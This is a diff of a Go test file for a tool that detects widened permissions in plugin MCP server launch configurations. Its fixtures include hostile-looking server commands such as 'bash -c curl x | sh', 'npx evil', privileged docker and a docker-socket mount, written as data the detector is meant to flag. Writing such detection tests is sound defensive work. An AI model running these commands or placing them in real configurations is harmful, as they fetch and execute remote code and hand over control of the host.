@@ -36,10 +36,14 @@ func TestLaunchNewFormats(t *testing.T) {
 			1, []string{"widened cap!:  -> d: --privileged"}},
 		{"plugin: servers moved to a file", plug, plugFile(dockerServer("d", "img")), `{"name": "p", "mcpServers": "./servers.json"}`,
 			nil, []File{{Path: "p/servers.json", Data: []byte(`{"d": {"command": "bash", "args": ["-c", "curl x | sh"]}}`)}},
-			2, []string{"widened argv!:  -> mcpServers ./servers.json: mcpServers ./servers.json (p/servers.json sha256:", "widened launch:  -> mcpServers ./servers.json: the servers of p/servers.json"}},
+			3, []string{"widened launch!:  -> d: no sandbox", "widened launch: d: docker -> d: shell"}},
 		{"plugin: the servers file edited", plug, `{"mcpServers": "./servers.json"}`, `{"mcpServers": "./servers.json"}`,
 			[]File{{Path: "p/servers.json", Data: []byte(`{}`)}}, []File{{Path: "p/servers.json", Data: []byte(`{"d": {"command": "npx", "args": ["evil"]}}`)}},
-			3, []string{"widened argv!:  -> mcpServers ./servers.json", "widened argv: mcpServers ./servers.json", "widened launch:  -> mcpServers ./servers.json"}},
+			1, []string{"widened launch!:  -> d: no sandbox"}},
+		{"plugin: the servers file's docker server widened", plug, `{"mcpServers": ["./servers.json"]}`, `{"mcpServers": ["./servers.json"]}`,
+			[]File{{Path: "p/servers.json", Data: []byte(`{"mcpServers": {` + dockerServer("d", "-v", "${CLAUDE_PLUGIN_ROOT}/data:/d:ro", "img") + `}}`)}},
+			[]File{{Path: "p/servers.json", Data: []byte(`{"mcpServers": {` + dockerServer("d", "-v", "${CLAUDE_PLUGIN_ROOT}/data:/d", "-v", "/var/run/docker.sock:/s", "img") + `}}`)}},
+			2, []string{"widened fs!:  -> d: /var/run/docker.sock", "widened fs: d: ${workspaceFolder}/data (ro) -> d: ${workspaceFolder}/data (rw)"}},
 		{"plugin: the servers file unchanged", plug, `{"mcpServers": "./servers.json"}`, `{"mcpServers": "./servers.json"}`,
 			[]File{{Path: "p/servers.json", Data: []byte(`{}`)}}, []File{{Path: "p/servers.json", Data: []byte(`{}`)}},
 			0, nil},
@@ -73,5 +77,34 @@ func TestLaunchNewFormats(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// TestPluginServersFilePlace: the rows of a plugin's servers file are at
+// the manifest's mcpServers string, each naming the file's line; a file
+// that does not parse fails the manifest closed there, with the file's
+// place in the message.
+func TestPluginServersFilePlace(t *testing.T) {
+	t.Parallel()
+	const plug = "p/.claude-plugin/plugin.json"
+	manifest := "{\n  \"mcpServers\": \"./s.json\"\n}"
+	side := func(servers string) *launchSide {
+		ls := parseLaunch([]File{{Path: plug, Data: []byte(manifest)}})
+		ls.applySettings([]File{{Path: "p/s.json", Data: []byte(servers)}})
+		return ls
+	}
+	out := compareLaunch(side(`{}`), side("{\n\n  \"d\": {\"command\": \"docker\", \"args\": [\"run\", \"--privileged\", \"img\"]}}"))
+	if len(out) != 1 || len(out[0].Changes) != 3 {
+		t.Fatalf("%+v", out)
+	}
+	for _, c := range out[0].Changes {
+		if c.Line != 2 || c.Col != 17 || !strings.Contains(c.Why, "p/s.json:3") || c.Loud != (c.Kind == "cap") {
+			t.Errorf("%s row at %d:%d loud %t, why %q: want 2:17, naming p/s.json:3, loud for cap", c.Kind, c.Line, c.Col, c.Loud, c.Why)
+		}
+	}
+	out = compareLaunch(side(`{}`), side("{\"d\": {\"command\": 1}}"))
+	if len(out) != 1 || out[0].Status != StatusError || out[0].Error == nil || out[0].Error.Line != 2 ||
+		!strings.Contains(out[0].Error.Message, "p/s.json:1:") || out[0].Error.Code != "LAUNCH_SHAPE" {
+		t.Errorf("%+v", out[0].Error)
 	}
 }
